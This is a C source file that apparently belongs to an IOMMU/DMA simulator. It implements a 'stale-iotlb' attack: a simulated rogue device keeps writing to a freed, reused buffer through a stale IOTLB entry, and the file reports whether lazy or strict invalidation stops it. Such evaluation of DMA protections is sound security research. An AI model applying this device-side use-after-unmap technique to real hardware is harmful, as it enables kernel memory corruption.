/*
 * stale-iotlb: use after unmap (IOMMU-DIV, Thunderclap's deferred
 * invalidation). The device receives a packet into its rx buffer, so
 * the translation is in the IOTLB; the driver unmaps and frees the
 * buffer, and the kernel reuses the memory for another 2 KiB object at
 * once. The device keeps writing to the IOVA it remembers, once per
 * millisecond for 20 ms. Lazy mode clears the page table but leaves the
 * IOTLB until the flush queue is flushed (its 10 ms timer, on the
 * machine's virtual clock); strict mode invalidates at unmap.
 */
#include <errno.h>
#include <stdio.h>
#include <string.h>

#include "attack/attack.h"
#include "dmasim/linux/slab.h"
#include "drivers/rnic.h"
#include "hw/rogue.h"
#include "kernel/machine.h"

#define STEPS 20

struct replay {
	unsigned int ok, first_fail_ms;
};

static void replay(struct atk_ctx *c, uint64_t iova, struct replay *rp)
{
	static const char junk[16] = "STALE-IOTLB-HIT";

	rp->first_fail_ms = STEPS;
	for (unsigned int ms = 0; ms < STEPS; ms++) {
		if (atk_write(c, iova, junk, sizeof(junk), NULL) == PCI_STATUS_OK)
			rp->ok++;
		else if (rp->first_fail_ms == STEPS)
			rp->first_fail_ms = ms;
		atk_advance_ms(c, 1);
	}
}

static void verdict(struct atk_ctx *c, const struct replay *rp, size_t changed)
{
	if (!rp->ok)
		atk_verdict(c, "blocked: 0 accesses after unmap");
	else if (rp->ok == STEPS)
		atk_verdict(c, "ATTACK SUCCEEDED: %u/%u writes after unmap, the window never closed; %zu bytes of the new object changed",
			    rp->ok, STEPS, changed);
	else
		atk_verdict(c, "WINDOW: %u writes after unmap, closed after %u ms by the flush; %zu bytes of the new object changed",
			    rp->ok, rp->first_fail_ms, changed);
}

int attack_stale_iotlb(struct atk_ctx *c)
{
	struct rogue_iova seen;
	struct replay rp = { 0, 0 };
	uint8_t copy[64];
	uint8_t *obj;
	size_t changed = 0;
	int ret = rnic_open(c->nic, 1);

	if (ret)
		return ret;
	atk_shadow_sync(c);
	if (rogue_rx_packet(c->r, "first packet", 12) ||
	    rogue_iovas(c->r, &seen, 1) != 1)
		return -EIO;
	atk_shadow_sync(c);
	atk_did(c, "device: received a packet at 0x%llx; the driver unmapped and freed the buffer",
		(unsigned long long)seen.addr);
	obj = kmalloc(2048, GFP_KERNEL);
	if (!obj)
		return -ENOMEM;
	memset(obj, 'K', 2048);
	memcpy(copy, obj, sizeof(copy));
	atk_did(c, "kernel: a new kmalloc-2k object at phys 0x%llx%s",
		(unsigned long long)(obj - c->m->ram.cpu),
		atk_xlate(c, seen.addr) == (uint64_t)(obj - c->m->ram.cpu)
			? " (the freed buffer's memory)" : "");
	replay(c, seen.addr, &rp);
	for (size_t i = 0; i < sizeof(copy); i++)
		changed += obj[i] != copy[i];
	atk_did(c, "device: wrote to 0x%llx every 1 ms for %u ms: %u succeeded",
		(unsigned long long)seen.addr, STEPS, rp.ok);
	verdict(c, &rp, changed);
	kfree(obj);
	return 0;
}
